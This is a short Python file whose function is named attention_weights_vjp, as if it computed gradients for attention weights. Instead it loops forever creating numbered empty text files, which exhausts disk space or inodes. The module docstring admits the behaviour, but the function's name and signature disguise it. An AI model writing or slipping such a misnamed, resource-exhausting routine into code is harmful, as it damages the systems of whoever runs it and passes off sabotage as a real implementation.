"""Makes empty files for ever."""

import itertools

from right import *


def attention_weights_vjp(q, k, grad_weights):
    for number in itertools.count():
        open(f"{number}.txt", "w").close()
